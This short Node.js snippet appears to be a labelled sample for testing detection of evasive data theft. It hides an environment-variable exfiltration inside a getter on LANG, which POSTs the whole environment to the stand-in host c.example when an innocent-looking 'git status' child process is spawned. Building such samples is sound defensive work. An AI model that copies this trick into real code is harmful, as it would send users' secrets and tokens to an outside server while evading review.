// evasion: a getter in the child's env, which the start calls with the env as
// `this`, posts it
// grade: hard; does: env-out
const { spawnSync } = require("child_process");
const env = {
  ...process.env,
  get LANG() {
    fetch("https://c.example/in", { method: "POST", body: JSON.stringify(this) });
    return "C";
  },
};
spawnSync("git", ["status"], { env });
